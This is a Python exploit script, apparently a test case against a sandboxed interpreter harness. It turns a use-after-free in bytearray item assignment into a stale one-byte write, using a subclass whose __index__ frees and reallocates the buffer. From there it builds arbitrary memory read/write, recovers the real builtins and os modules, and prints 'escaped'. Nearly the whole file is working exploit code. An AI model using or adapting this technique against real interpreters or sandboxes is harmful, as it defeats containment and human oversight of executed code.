# technique: ba[i] = X() where X is a bytearray SUBCLASS with __index__: pyfix ba_ass_subscript skips plain_index() for values that pass PyObject_CheckBuffer, so bytearray_ass_subscript's _getbytevalue still runs X.__index__ after buf was taken (487 via a buffer-typed value) -> stale 1-byte write -> arbitrary R/W -> real builtins/os
# expect: any
orepr = getattr(object, "__repr__")
def addr(o):
    return int(orepr(o).split(" at ")[1][:-1], 16)
BA_T = addr(bytearray)
drain = [bytearray(b"d" * 56) for _ in range(3000)]   # drain the 64-byte free lists: later blocks are carved upward
ba = bytearray(b"A" * 56)          # 57-byte buffer: a 64-byte block P
st = {}
class X(bytearray):
    def __index__(self):
        ba.clear()                               # frees P; bytearray_ass_subscript still holds buf == P
        ba.extend(b"B" * 64)                     # new size 64 (> index), buffer elsewhere (80-byte class)
        st["victim"] = bytearray(b"v" * 56)      # header reuses P; its 57-byte buffer is carved next
        st["marks"] = [bytearray(0x1234 + i) for i in range(64)]  # headers carved after the buffer
        return 0x40
ba[16 + 6] = X()                   # writes 0x40 into byte 6 of victim.ob_size
victim = st["victim"]
print("victim len:", hex(len(victim)))
marks = st["marks"]
want = BA_T.to_bytes(8, "little")
found = None
for off in range(0, 1 << 16, 8):
    if victim[off + 8: off + 16] == want:
        sz = int.from_bytes(victim[off + 16: off + 24], "little")
        if 0x1234 <= sz < 0x1234 + 64:
            found = (off, marks[sz - 0x1234])
            break
off, W = found
print("found a bytearray header at victim buffer +", hex(off))
victim[off + 16: off + 24] = (1 << 60).to_bytes(8, "little")   # ob_size
victim[off + 24: off + 32] = (1 << 60).to_bytes(8, "little")   # ob_alloc
victim[off + 32: off + 48] = bytes(16)                          # ob_bytes = ob_start = 0
print("W len", hex(len(W)))
def r64(a):
    return int.from_bytes(W[a:a+8], "little")
def w64(a, v):
    W[a:a+8] = v.to_bytes(8, "little")
def mat(a):
    L = [None]
    items = r64(addr(L) + 24)
    w64(a, r64(a) + 1)
    w64(items, a)
    return L[0]
bm = mat(r64(addr(print) + 24))
print("real builtins module:", bm, type(bm))
bdict = mat(r64(addr(bm) + 16))
os = bdict["__import__"]("os")
sys = bdict["__import__"]("sys")
print("os:", os, "pid", os.getpid())
print("harness:", sys.modules.get("_safepy_harness"))
"escaped"
